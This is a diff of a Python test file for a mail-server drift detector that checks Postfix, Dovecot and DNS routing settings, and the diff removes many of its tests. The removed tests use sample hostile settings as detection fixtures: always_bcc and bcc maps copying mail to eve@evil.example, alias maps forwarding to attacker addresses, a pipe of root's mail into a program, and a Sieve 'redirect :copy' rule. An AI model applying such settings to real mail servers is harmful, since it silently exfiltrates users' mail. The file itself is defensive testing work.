@@ -6,9 +6,8 @@ from typing import Any
 
 import pytest
 
-from fixtures.evidence import CouldNotAsk, Evidence, Verdict
+from fixtures.evidence import CouldNotAsk, Evidence
 from fixtures.gates.drift import accepted, hosts
-from fixtures.gates.drift.judging import accepted_as, differences, judged, judged_strangers, strangers
 from fixtures.gates.drift.reading import Source, State, dns_of, sources
 from fixtures.gates.present import DOVECOT, POSTFIX
 from fixtures.plan.gates import TABLE
@@ -16,161 +15,9 @@ from fixtures.store import Store
 from scripts import accept
 from tests.gates.conftest import World
 
-OURS = frozenset({"example.net", "dell.example.net", "localhost"})
 SEEN = Evidence("all of it", "read")
 ZONE = dns_of("example.net")
 """A source of one routed domain."""
-
-
-def stands(parts: dict[str, str], source: str = POSTFIX, **more: object) -> State:
-    return State({source: Source(parts, {}, SEEN, **more)})  # type: ignore[arg-type] # what only a zone has
-
-
-def test_what_is_as_accepted_holds() -> None:
-    parts = {"parameter myhostname": "dell.example.net"}
-    assert [each.verdict for each in judged({POSTFIX: parts}, stands(parts))] == [Verdict.PASS]
-
-
-@pytest.mark.parametrize(
-    ("before", "now", "named"),
-    [
-        ({}, {"parameter always_bcc": "eve@evil.example"}, "was not there, is eve@evil.example"),
-        ({"parameter always_bcc": "a@b.example"}, {}, "was a@b.example, is not there"),
-        ({"file /x": "mode 600 root:root"}, {"file /x": "mode 644 root:root"}, "was mode 600 root:root, is mode 644"),
-        ({"map hash:/v": "a b\nc d"}, {"map hash:/v": "a b\nc d\ne evil@evil.example"}, "+e evil@evil.example"),
-    ],
-)
-def test_each_difference_is_named(before: dict[str, str], now: dict[str, str], named: str) -> None:
-    (finding,) = judged({POSTFIX: before}, stands(now))
-    assert finding.verdict is Verdict.FAIL
-    assert named in finding.found
-    assert "scripts.accept" in finding.hint
-
-
-def test_a_program_that_can_not_be_seen_now_is_no_other() -> None:
-    assert not list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "somebody"})))
-    assert list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "python3"})))
-    assert list(differences({POSTFIX: {}}, stands({"listens at *:25": "somebody"})))
-
-
-def test_who_wrote_it_and_when_is_said() -> None:
-    look = Source({"file /x": "new"}, {"file /x": "written 2026-11-26 22:10, its owner is eve"}, SEEN)
-    (found,) = differences({POSTFIX: {"file /x": "old"}}, State({POSTFIX: look}))
-    assert found.found == "was old, is new (written 2026-11-26 22:10, its owner is eve)"
-
-
-def test_what_could_not_be_read_or_was_never_accepted_is_inconclusive() -> None:
-    found = judged({POSTFIX: {}}, State({DOVECOT: Source({"x": "y"}, {}, SEEN)}, {POSTFIX: "no answer"}))
-    assert {each.member: each.verdict for each in found} == dict.fromkeys([DOVECOT, POSTFIX], Verdict.INCONCLUSIVE)
-    (none,) = judged(None, State())
-    assert none.verdict is Verdict.INCONCLUSIVE
-
-
-def test_only_what_email_routing_adds_by_itself_passes() -> None:
-    key = "v=DKIM1; p=abc (TTL 300)"
-    known = {ZONE: {"MX example.net": "10 mail.example.net (TTL 300)"}}
-    now = known[ZONE] | {"TXT cf._domainkey.example.net": key}
-    assert not list(differences(known, stands(now, ZONE, placed=frozenset({key}))))
-    assert list(differences(known, stands(now, ZONE)))
-    gone = {"TXT cf._domainkey.example.net": key}
-    assert list(differences(known, stands(gone, ZONE, placed=frozenset({key}))))
-    (finding,) = [each for each in judged(known, stands(now, ZONE)) if each.verdict is Verdict.FAIL]
-    assert finding.domain == "example.net"
-    assert "audit log" in finding.hint
-
-
-@pytest.mark.parametrize(
-    ("parts", "text"),
-    [
-        ({"parameter always_bcc": "eve@evil.example"}, "parameter always_bcc sends copies to eve@evil.example"),
-        ({"override cleanup/unix/always_bcc": "eve@evil.example"}, "always_bcc sends copies to eve@evil.example"),
-        (
-            {"parameter recipient_bcc_maps": "hash:/b", "map hash:/b": "alice@example.net\teve@evil.example"},
-            "recipient_bcc_maps sends copies to eve@evil.example (for alice@example.net, by hash:/b)",
-        ),
-        (
-            {
-                "parameter sender_bcc_maps": "texthash:/b",
-                "file /b": "mode 644 root:root\n# x\n@example.net e@evil.example",
-            },
-            "sender_bcc_maps sends copies to e@evil.example",
-        ),
-        ({"parameter sender_bcc_maps": "mysql:/b.cf"}, "sender_bcc_maps sends copies by mysql:/b.cf, which can't be"),
-        ({"parameter recipient_bcc_maps": "static:eve@evil.example"}, "sends copies to eve@evil.example"),
-        ({"parameter recipient_bcc_maps": "inline:{a@example.net=eve@evil.example}"}, "copies to eve@evil.example"),
-        (
-            {
-                "parameter virtual_alias_maps": "hash:/v",
-                "map hash:/v": "bob@example.net\tbob@localhost, b@evil.example",
-            },
-            "virtual_alias_maps leads mail to b@evil.example",
-        ),
-        (
-            {"parameter virtual_alias_maps": "unionmap:{hash:/v}", "map hash:/v": "bob@example.net\tb@evil.example"},
-            "virtual_alias_maps leads mail to b@evil.example",
-        ),
-        (
-            {"parameter alias_maps": "hash:/a", "map hash:/a": 'root\t"|/bin/send"'},
-            "leads mail into a program (for root",
-        ),
-    ],
-)
-def test_a_copy_to_a_stranger_is_named(parts: dict[str, str], text: str) -> None:
-    (found,) = strangers(POSTFIX, parts, OURS)
-    assert text in found
-
-
-@pytest.mark.parametrize(
-    "parts",
-    [
-        {"parameter always_bcc": "archive@example.net"},
-        {"parameter always_bcc": "archive@mail.dell.example.net"},
-        {"parameter always_bcc": ""},
-        {"parameter virtual_alias_maps": "hash:/v", "map hash:/v": "bob@example.net\talice@example.net\nroot\talice"},
-        {"parameter smtpd_sender_restrictions": "eve@evil.example"},
-    ],
-)
-def test_what_stays_with_the_operator_is_none(parts: dict[str, str]) -> None:
-    assert not list(strangers(POSTFIX, parts, OURS))
-
-
-def test_sieve_mirrors_and_rules_are_named() -> None:
-    script = "\n".join(hosts.sieve_acts('if true { redirect :copy "eve@evil.example"; } # discard;\nkeep;'))
-    found = strangers(DOVECOT, {"Sieve /srv/a/.dovecot.sieve": script, "Dovecot's mail_replica": "tcp:mirror"}, OURS)
-    assert list(found) == [
-        f'{DOVECOT}: Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"',
-        f"{DOVECOT}: Dovecot's mail_replica mirrors mailboxes (mail_replica)",
-    ]
-    rules = {"rule a@example.net": "forward eve@evil.example", "rule b@example.net": "forward b@dell.example.net"}
-    assert list(strangers("Email Routing of example.net", rules, OURS)) == [
-        "Email Routing of example.net: rule a@example.net: forward eve@evil.example"
-    ]
-
-
-def test_what_a_person_named_passes() -> None:
-    parts = {"parameter always_bcc": "eve@evil.example"}
-    red = [each for each in judged_strangers(stands(parts), OURS, (), ()) if each.verdict is Verdict.FAIL]
-    assert len(red) == 1
-    for named, opens in (({red[0].member}, True), ({"parameter always_bcc"}, False)):
-        found = judged_strangers(stands(parts), OURS, (), named)
-        assert all(each.verdict.opens for each in found) is opens
-
-
-@pytest.mark.parametrize(
-    ("text", "filters", "by"),
-    [
-        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "sieve", ""),
-        ('Sieve /srv/eve@evil.example/x: redirect :copy "mallory@evil.example"', "eve@evil.example", ""),
-        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "eve@evil.example", "eve@evil.example"),
-        ("parameter always_bcc sends copies to eve@evil.example", "always_bcc", ""),
-        ("parameter always_bcc sends copies to eve@evil.example", "ve@evil.example", ""),
-        ("parameter always_bcc sends copies to eve@evil.example", "bcc: eve@evil.example", "bcc: eve@evil.example"),
-        ("map leads mail to eve@evil.example (for a@example.net, by hash:/v)", "a@example.net", ""),
-        ("Sieve /srv/a/x: pipe", "pipe", ""),
-    ],
-)
-def test_a_filter_of_the_settings_accepts_by_the_strangers_whole_address(text: str, filters: str, by: str) -> None:
-    assert accepted_as(text, OURS, (filters,), ()) == by
 
 
 def test_records_lie_one_over_the_other(world: World) -> None:
